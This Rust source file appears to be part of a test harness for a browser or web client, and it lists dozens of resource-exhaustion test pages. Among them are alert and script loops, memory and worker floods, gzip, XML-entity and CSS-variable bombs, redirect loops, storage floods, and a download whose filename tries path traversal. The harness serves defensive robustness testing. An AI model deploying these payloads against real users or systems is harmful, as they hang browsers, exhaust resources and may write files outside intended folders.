//! What costs time, memory, disk or a person's attention.

use super::exhaust_made as made;
use super::{Act, Attack, Kind, Proof, Reply};

/// An attack after which the page does not answer any more.
fn hangs(name: &str, body: &'static str) -> Attack {
    Attack::page(name, Kind::Exhaust, Proof::Costs(0), body)
}

/// One that is only worth a look: the page goes on, and it must not matter.
fn shows(name: &str, body: &'static str) -> Attack {
    Attack::page(name, Kind::Exhaust, Proof::Shows, body)
}

/// One that is made as it is asked for, of which more than so many MiB are taken; 0 for one that stops the page.
fn made(name: &str, mib: u64, make: fn(usize) -> crate::site::Answer) -> Attack {
    Attack::new(name, Kind::Exhaust, Proof::Costs(mib)).file("", Reply::Made(make))
}

pub(super) fn rows() -> Vec<Attack> {
    [windows(), scripts(), bodies(), ways(), storage()].concat()
}

fn windows() -> Vec<Attack> {
    vec![
        hangs("alert-loop", "<!doctype html><script>for (;;) alert('Again')</script>"),
        hangs("confirm-loop", "<!doctype html><script>while (!confirm('Sure?'));</script>"),
        hangs("prompt", "<!doctype html><script>prompt('Your password')</script>"),
        hangs("print", "<!doctype html><script>for (;;) print()</script>"),
        shows("before-unload", "<!doctype html><button>Go</button><script>addEventListener('beforeunload', (event) => { event.preventDefault(); event.returnValue = 'Stay' })</script>").acts(&[Act::Click("button")]),
        shows("popups", "<!doctype html><script>for (let i = 0; i < 50; i++) open('/steel.html?' + i)</script>"),
        shows("popups-by-click", "<!doctype html><button onclick=\"for (let i = 0; i < 50; i++) window.open('/steel.html')\">Go</button>").acts(&[Act::Click("button")]),
        shows("file-chooser", "<!doctype html><input type=file><button onclick=\"document.querySelector('input').showPicker()\">Go</button>").acts(&[Act::Click("button")]),
        shows("permissions", "<!doctype html><script>navigator.geolocation.getCurrentPosition(() => {}); Notification.requestPermission(); navigator.mediaDevices.getUserMedia({audio: true, video: true})</script>"),
        shows("full-screen", "<!doctype html><button onclick='document.documentElement.requestFullscreen(); this.requestPointerLock()'>Go</button>").acts(&[Act::Click("button")]),
        shows("window-close", "<!doctype html><script>close(); setInterval(close, 10)</script>"),
        Attack::new("asks-for-a-password", Kind::Exhaust, Proof::Shows).file("", Reply::With(401, &[("www-authenticate", "Basic realm=\"x\"")], "<!doctype html><p>Password")),
        Attack::new("asks-as-a-proxy", Kind::Exhaust, Proof::Shows).file("", Reply::With(407, &[("proxy-authenticate", "Basic realm=\"x\"")], "<!doctype html><p>Password")),
    ]
}

fn scripts() -> Vec<Attack> {
    vec![
        hangs("endless-script", "<!doctype html><script>for (;;);</script>"),
        hangs("endless-after-load", "<!doctype html><p>Fine</p><script>setTimeout(() => { for (;;); }, 300)</script>").acts(&[Act::Wait(600)]),
        hangs("endless-promises", "<!doctype html><script>const again = () => Promise.resolve().then(again); again()</script>"),
        hangs("endless-expression", "<!doctype html><script>/^(a+)+$/.test('a'.repeat(60) + 'b')</script>"),
        hangs("dom-bomb", "<!doctype html><body><script>for (;;) document.body.append(document.body.cloneNode(true))</script>"),
        shows("dom-growth", "<!doctype html><body><script>setInterval(() => { for (let i = 0; i < 2000; i++) document.body.append(document.createElement('p')) }, 1)</script>"),
        shows("endless-scroll", "<!doctype html><body><script>onscroll = () => document.body.insertAdjacentHTML('beforeend', '<div style=\"height:900px\">more</div>'.repeat(50)); onscroll()</script>").acts(&[Act::Scroll, Act::Scroll, Act::Scroll]),
        hangs("memory", "<!doctype html><script>const all = []; for (;;) all.push(new Uint8Array(1 << 26).fill(1))</script>"),
        hangs("memory-of-strings", "<!doctype html><script>let text = 'x'.repeat(1 << 20); const all = []; for (;;) all.push((text + all.length).split(''))</script>"),
        shows("webassembly-memory", "<!doctype html><script>const all = []; try { for (;;) all.push(new WebAssembly.Memory({initial: 16384})) } catch {}</script>"),
        shows("workers", "<!doctype html><script>const code = URL.createObjectURL(new Blob(['for (;;);'])); for (let i = 0; i < 64; i++) new Worker(code)</script>"),
        hangs("frames-of-itself", "<!doctype html><script>for (let i = 0; i < 40; i++) document.write('<iframe srcdoc=\"<script>parent.postMessage(0); for (let n = 0; n < 1e9; n++);</scr' + 'ipt>\"></iframe>')</script>"),
        shows("frame-loop", "<!doctype html><iframe src='{here}/'></iframe><iframe src='{here}/#1'></iframe>"),
        shows("history-flood", "<!doctype html><script>setInterval(() => { for (let i = 0; i < 200; i++) history.pushState({}, '', '#' + Math.random()) }, 1)</script>"),
        shows("title-flood", "<!doctype html><script>setInterval(() => document.title = Math.random() + 'x'.repeat(1 << 20), 1)</script>"),
        shows("console-flood", "<!doctype html><script>setInterval(() => { for (let i = 0; i < 500; i++) console.log('x'.repeat(10000)) }, 1)</script>"),
        shows("message-flood", "<!doctype html><script>onmessage = () => { postMessage(0); postMessage(0) }; postMessage(0)</script>"),
        shows("long-address", "<!doctype html><script>history.pushState({}, '', '?' + 'x'.repeat(1 << 21))</script>"),
        shows("request-flood", "<!doctype html><script>for (let i = 0; i < 20000; i++) fetch('{here}/').catch(() => {})</script>"),
        hangs("debugger", "<!doctype html><script>for (;;) debugger</script>"),
        shows("canvas", "<!doctype html><script>for (let i = 0; i < 50; i++) { const c = document.createElement('canvas'); c.width = c.height = 8000; c.getContext('2d').fillRect(0, 0, 8000, 8000); document.body?.append(c) }</script>"),
    ]
}

fn bodies() -> Vec<Attack> {
    vec![
        made("gigabyte", 12, made::gigabyte),
        Attack::new("trickle", Kind::Exhaust, Proof::Shows).file("", Reply::Made(made::trickle)),
        made("gzip-bomb", 0, made::gzip_bomb),
        made("gzip-of-gzip", 0, made::gzip_of_gzip),
        made("deep", 0, made::deep),
        made("many-attributes", 0, made::many_attributes),
        made("huge-attribute", 20, made::huge_attribute),
        made("formatting", 0, made::formatting),
        made("image-bomb", 0, made::image_bomb),
        made("many-fields", 0, made::many_fields),
        Attack::page("table-bomb", Kind::Exhaust, Proof::Shows, "<!doctype html><table><tr><td colspan=1000 rowspan=65534>a<td colspan=1000 rowspan=65534>b</table>"),
        Attack::page("style-bomb", Kind::Exhaust, Proof::Shows, "<!doctype html><style>:root { --a: x x x x x x x x x x; --b: var(--a) var(--a) var(--a) var(--a) var(--a) var(--a) var(--a) var(--a) var(--a) var(--a); --c: var(--b) var(--b) var(--b) var(--b) var(--b) var(--b) var(--b) var(--b) var(--b) var(--b); --d: var(--c) var(--c) var(--c) var(--c) var(--c) var(--c) var(--c) var(--c) var(--c) var(--c); --e: var(--d) var(--d) var(--d) var(--d) var(--d) var(--d) var(--d) var(--d) var(--d) var(--d); --f: var(--e) var(--e) var(--e) var(--e) var(--e) var(--e) var(--e) var(--e) var(--e) var(--e) } p { font-family: var(--f) }</style><p>x</p>"),
        Attack::new("entity-bomb", Kind::Exhaust, Proof::Shows).file("", Reply::With(200, &[("content-type", "text/xml")], "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY a 'xxxxxxxxxx'><!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;'><!ENTITY c '&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;'><!ENTITY d '&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;'><!ENTITY e '&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;'><!ENTITY f '&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;'><!ENTITY g '&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;'>]><a>&g;</a>")),
    ]
}

fn ways() -> Vec<Attack> {
    vec![
        Attack::new("redirect-loop", Kind::Exhaust, Proof::Shows).file("", Reply::With(302, &[("location", "{here}/")], "")),
        Attack::new("redirect-pair", Kind::Exhaust, Proof::Shows)
            .file("", Reply::With(302, &[("location", "{here}/b")], ""))
            .file("b", Reply::With(302, &[("location", "{here}/")], "")),
        Attack::page("redirect-by-meta", Kind::Exhaust, Proof::Shows, "<!doctype html><meta http-equiv=refresh content=0>"),
        Attack::page("redirect-by-script", Kind::Exhaust, Proof::Shows, "<!doctype html><script>location.reload()</script>"),
        Attack::page("redirect-by-turns", Kind::Exhaust, Proof::Shows, "<!doctype html><script>location = '{here}/b'</script>")
            .file("b", Reply::Page("<!doctype html><script>location = '{here}/'</script>")),
        Attack::new("redirect-on-and-on", Kind::Exhaust, Proof::Shows).file("", Reply::Made(made::redirect_on)),
        Attack::page("never-loaded", Kind::Exhaust, Proof::Shows, "<!doctype html><p>There</p><img src='{here}/slow.png'>").file("slow.png", Reply::Made(made::trickle)),
        Attack::new("download", Kind::Exhaust, Proof::Shows)
            .file("", Reply::With(200, &[("content-type", "application/octet-stream"), ("content-disposition", "attachment; filename=\"../../../evil.desktop\"")], "{loot}")),
        Attack::page("downloads", Kind::Exhaust, Proof::Shows, "<!doctype html><script>for (let i = 0; i < 30; i++) { const a = document.createElement('a'); a.href = URL.createObjectURL(new Blob(['x'.repeat(1 << 20)])); a.download = i + '.bin'; a.click() }</script>"),
        made("download-gigabyte", 100, made::download),
        Attack::new("no-content", Kind::Exhaust, Proof::Shows).file("", Reply::With(204, &[], "")),
        Attack::new("no-type", Kind::Exhaust, Proof::Shows).file("", Reply::Bytes("", b"\x7fELF\x02\x01\x01")),
        Attack::new("document-of-another-kind", Kind::Exhaust, Proof::Shows).file("", Reply::Bytes("application/pdf", b"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/URI/URI(http://127.0.0.2:8081/pdf)>>>>endobj\ntrailer<</Root 1 0 R>>")),
    ]
}

fn storage() -> Vec<Attack> {
    vec![
        shows("storage", "<!doctype html><script>try { for (let i = 0; ; i++) localStorage[i] = 'x'.repeat(1 << 18) } catch {}</script>"),
        shows("database", "<!doctype html><script>
const open = indexedDB.open('x'); open.onupgradeneeded = () => open.result.createObjectStore('y');
open.onsuccess = async () => { for (let i = 0; i < 2000; i++) { const all = open.result.transaction('y', 'readwrite'); all.objectStore('y').put(new Blob([new Uint8Array(1 << 20)]), i); await new Promise((done) => all.oncomplete = done) } };
</script>"),
        shows("cache", "<!doctype html><script>caches.open('x').then(async (cache) => { for (let i = 0; i < 500; i++) await cache.put('/' + i, new Response(new Uint8Array(1 << 20))) })</script>"),
        shows("files", "<!doctype html><script>navigator.storage.getDirectory().then(async (folder) => { const file = await (await folder.getFileHandle('x', {create: true})).createWritable(); for (let i = 0; i < 500; i++) await file.write(new Uint8Array(1 << 20)) })</script>"),
    ]
}
